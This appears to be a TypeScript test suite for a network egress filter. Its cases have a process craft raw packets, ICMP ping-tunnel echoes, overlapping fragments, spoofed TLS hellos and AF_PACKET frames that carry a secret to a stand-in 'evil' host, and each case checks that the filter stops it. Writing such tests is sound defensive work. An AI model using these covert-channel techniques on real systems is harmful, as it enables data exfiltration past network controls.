/** S7: packets built by the process itself. */
import { CLIENT4, CLIENT6 } from "../support/addresses.ts";
import { fragment, icmp, packet, TCP, tcp, UDP, udp } from "../support/ip-packets.ts";
import { PORTS } from "../support/stage.ts";
import type { Fixture } from "./fixture.ts";
import { hello } from "./hellos.ts";
import { byAddress, byHello } from "./policies.ts";
import type { Row } from "./row.ts";
import { attemptAt } from "./sockets.ts";
import type { Target } from "./target.ts";

const SECRET = Buffer.from("not for you, not for you");
const ROOT = "root, or CAP_NET_RAW";

/** Sends a packet through a raw socket. */
async function raw(fixture: Fixture, address: string, bytes: Buffer) {
	const steps = address.includes(":") ? ["header6"] : ["header"];
	const type = address.includes(":") ? "raw6,255" : "raw4,255";
	return attemptAt(
		[{ address }],
		await fixture.script(type, [...steps, `sendto=${address},0,${bytes.toString("hex")}`]),
	);
}

/** Sends the same packet through a packet socket, below IP. */
async function frame(fixture: Fixture, address: string, bytes: Buffer) {
	const mac = fixture.mac(fixture.stage.world.network.server, "down0");
	return attemptAt([{ address }], await fixture.script("udp4", [`frame=up0,${mac},${bytes.toString("hex")}`]));
}

const made: Row[] = [
	{
		id: "S7a",
		title: "raw socket: UDP datagram with its IP header",
		kind: "stop",
		who: ROOT,
		run: (fixture, { evil }) => raw(fixture, evil.v4, udp(CLIENT4, evil.v4, [40_000, PORTS.udp], SECRET)),
	},
	{
		id: "S7b",
		title: "raw socket: TCP segment with data, no handshake",
		kind: "stop",
		who: ROOT,
		run: (fixture, { evil }) => raw(fixture, evil.v4, tcp(CLIENT4, evil.v4, [40_000, PORTS.echo], SECRET)),
	},
	{
		id: "S7c",
		title: "raw socket: UDP over IPv6 with its header",
		kind: "stop",
		who: ROOT,
		run: (fixture, { evil }) => raw(fixture, evil.v6, udp(CLIENT6, evil.v6, [40_000, PORTS.udp], SECRET)),
	},
	{
		id: "S7d",
		title: "ICMP echo with data (ping tunnel), raw socket",
		kind: "stop",
		who: "ptunnel, icmpsh",
		run: (fixture, { evil }) => raw(fixture, evil.v4, icmp(CLIENT4, evil.v4, 8, SECRET)),
	},
	{
		id: "S7e",
		title: "ICMP echo with data, ping socket",
		kind: "stop",
		who: "any user",
		run: async (fixture, { evil }) => {
			const echo = `0800000000070001${SECRET.toString("hex")}`;
			return attemptAt([{ address: evil.v4 }], await fixture.script("ping4", [`sendto=${evil.v4},0,${echo}`]));
		},
	},
	{
		id: "S7f",
		title: "ICMPv6 neighbour solicitation with data, as if from the kernel",
		kind: "stop",
		who: ROOT,
		run: async (fixture, { evil }) => {
			const body = `870000000000000020010db8000a0bad0000000000000001${SECRET.toString("hex")}`;
			return attemptAt([{ address: evil.v6 }], await fixture.script("raw6,58", [`sendto=${evil.v6},0,${body}`]));
		},
	},
	{
		id: "S7g",
		title: "an unknown protocol (253)",
		kind: "stop",
		who: ROOT,
		run: (fixture, { evil }) => raw(fixture, evil.v4, packet(CLIENT4, evil.v4, 253, SECRET)),
	},
	{
		id: "S7h",
		title: "fragments: only a second one, without ports",
		kind: "stop",
		who: "fragroute",
		run: (fixture, { evil }) => raw(fixture, evil.v4, fragment(CLIENT4, evil.v4, UDP, 3, SECRET)),
	},
	{
		id: "S7i",
		title: "fragments to an allowed port: a later one overlaps the first",
		kind: "stop",
		who: "fragroute",
		policy: (t) => byPort(t, "udp", PORTS.udp),
		run: async (fixture, { good }) => {
			const whole = udp(CLIENT4, good.v4, [40_000, PORTS.udp], SECRET).subarray(20);
			const first = await raw(fixture, good.v4, fragment(CLIENT4, good.v4, UDP, 0x2000, whole.subarray(0, 16)));
			const later = await raw(fixture, good.v4, fragment(CLIENT4, good.v4, UDP, 1, whole.subarray(8)));
			return {
				at: [{ address: good.v4, protocol: UDP, port: 0 }],
				clientSaw: `${first.clientSaw}, ${later.clientSaw}`,
			};
		},
	},
	{
		id: "S7j",
		title: "a crafted TCP stream with a hello of another name, to an allowed address",
		kind: "stop",
		who: "scapy, a TCP stack of one's own",
		policy: byHello,
		run: (fixture, { good, evil }) =>
			raw(fixture, good.v4, tcp(CLIENT4, good.v4, [40_000, PORTS.tls], hello(evil.name))),
	},
	{
		id: "S7k",
		title: "ICMP echo to an allowed host",
		kind: "pass",
		run: async (fixture, { good }) => {
			const sent = await fixture.script("ping4", [`sendto=${good.v4},0,0800000000070001`, "read=1000"]);
			return { ...attemptAt([{ address: good.v4 }], sent), ok: sent.errno === "0" && sent.read !== "" };
		},
	},
];

const frames: Row[] = [
	{
		id: "S7l",
		title: "AF_PACKET: UDP datagram below IP",
		kind: "stop",
		who: ROOT,
		run: (fixture, { evil }) => frame(fixture, evil.v4, udp(CLIENT4, evil.v4, [40_000, PORTS.udp], SECRET)),
	},
	{
		id: "S7m",
		title: "AF_PACKET: TCP segment over IPv6",
		kind: "stop",
		who: ROOT,
		run: (fixture, { evil }) => frame(fixture, evil.v6, packet(CLIENT6, evil.v6, TCP, tcp6(evil.v6))),
	},
];

function tcp6(to: string): Buffer {
	return tcp(CLIENT6, to, [40_000, PORTS.echo], SECRET).subarray(40);
}

/** Allows one port of the host. */
function byPort(t: Target, protocol: "udp" | "tcp", port: number): string {
	const rule = { name: "port", to: { cidr: `${t.good.v4}/32`, protocol, ports: port } };
	return byAddress({ ...t, good: t.also }, [rule]);
}

export const RAW: readonly Row[] = [...made, ...frames];
